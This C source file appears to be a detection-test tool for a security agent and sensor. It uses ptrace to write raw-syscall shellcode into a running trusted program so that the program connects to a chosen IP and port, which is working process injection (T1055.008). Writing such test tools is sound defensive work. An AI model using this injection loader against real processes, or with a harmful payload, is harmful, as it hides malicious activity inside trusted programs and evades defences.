/*
 * The injector: code injected into a trusted program connects out, while
 * the injector itself never does.
 *
 *   inject PROGRAM IP PORT
 *
 * It starts PROGRAM (say /usr/bin/sleep) as a child that waits, attaches
 * to it with ptrace, writes a short payload over the code at the child's
 * instruction pointer (PTRACE_POKETEXT: the kernel makes a private copy
 * of that page of the program's text), points the child at it and
 * detaches. The payload connects to IP:PORT over TCP with raw system
 * calls and exits 0 when the connect succeeded, 5 when it failed. The
 * injector exits with the child's code, or 2 when a step of its own
 * failed (printed). Process injection as a loader would do it (T1055.008);
 * a /proc/<pid>/mem write lands the same way. x86-64 only. Built by
 * testutil.BuildInject for the agent and sensor tests.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef __x86_64__
#error "inject.c: x86-64 only"
#endif

#ifdef SALT
/* Each build's own bytes, so each has a digest of its own. */
const char salt[] __attribute__((used)) = SALT;
#endif

/* The payload, position independent; its sockaddr_in follows the code. */
extern const unsigned char payload_start[], payload_addr[], payload_end[];
__asm__(".pushsection .rodata\n"
	"payload_start:\n"
	"	mov $41, %eax\n" /* socket(AF_INET, SOCK_STREAM, 0) */
	"	mov $2, %edi\n"
	"	mov $1, %esi\n"
	"	xor %edx, %edx\n"
	"	syscall\n"
	"	mov %eax, %edi\n" /* connect(fd, &addr, 16) */
	"	lea payload_addr(%rip), %rsi\n"
	"	mov $16, %edx\n"
	"	mov $42, %eax\n"
	"	syscall\n"
	"	xor %edi, %edi\n" /* exit_group(ret ? 5 : 0) */
	"	test %eax, %eax\n"
	"	jz 1f\n"
	"	mov $5, %edi\n"
	"1:	mov $231, %eax\n"
	"	syscall\n"
	"	.balign 8\n"
	"payload_addr:\n"
	"	.fill 16, 1, 0\n"
	"payload_end:\n"
	".popsection\n");

static int fail(const char *what)
{
	perror(what);
	return 2;
}

int main(int argc, char **argv)
{
	unsigned char code[256];
	size_t n = payload_end - payload_start, off = payload_addr - payload_start;
	struct sockaddr_in sa = {.sin_family = AF_INET};
	struct user_regs_struct regs;
	char want[4096], link[64], got[4096];
	ssize_t len;
	int status;
	pid_t child;

	if (argc != 4) {
		fprintf(stderr, "usage: inject PROGRAM IP PORT\n");
		return 2;
	}
	sa.sin_port = htons(atoi(argv[3]));
	if (inet_pton(AF_INET, argv[2], &sa.sin_addr) != 1 || n > sizeof(code)) {
		fprintf(stderr, "bad address %s\n", argv[2]);
		return 2;
	}
	memcpy(code, payload_start, n);
	memcpy(code + off, &sa, sizeof(sa));
	if (!realpath(argv[1], want))
		return fail(argv[1]);

	child = fork();
	if (child < 0)
		return fail("fork");
	if (child == 0) {
		execl(argv[1], argv[1], "30", (char *)NULL);
		_exit(127);
	}
	/* Wait until the child runs PROGRAM, then a little for it to settle
	 * in its wait. */
	snprintf(link, sizeof(link), "/proc/%d/exe", child);
	for (int i = 0;; i++) {
		len = readlink(link, got, sizeof(got) - 1);
		if (len > 0) {
			got[len] = 0;
			if (!strcmp(got, want))
				break;
		}
		if (i == 1000) {
			kill(child, SIGKILL);
			fprintf(stderr, "child never ran %s\n", want);
			return 2;
		}
		usleep(1000);
	}
	usleep(50000);

	if (ptrace(PTRACE_ATTACH, child, 0, 0))
		return fail("PTRACE_ATTACH");
	if (waitpid(child, &status, 0) != child || !WIFSTOPPED(status))
		return fail("waitpid");
	if (ptrace(PTRACE_GETREGS, child, 0, &regs))
		return fail("PTRACE_GETREGS");
	for (size_t i = 0; i < n; i += sizeof(long)) {
		long word;

		memcpy(&word, code + i, sizeof(word));
		if (ptrace(PTRACE_POKETEXT, child, (void *)(regs.rip + i), (void *)word))
			return fail("PTRACE_POKETEXT");
	}
	/* No syscall restart: the child was in one (its wait). */
	regs.orig_rax = -1;
	if (ptrace(PTRACE_SETREGS, child, 0, &regs))
		return fail("PTRACE_SETREGS");
	if (ptrace(PTRACE_DETACH, child, 0, 0))
		return fail("PTRACE_DETACH");
	if (waitpid(child, &status, 0) != child)
		return fail("waitpid");
	if (!WIFEXITED(status)) {
		fprintf(stderr, "child did not exit: status %#x\n", status);
		return 2;
	}
	printf("injected %d\n", child);
	return WEXITSTATUS(status);
}
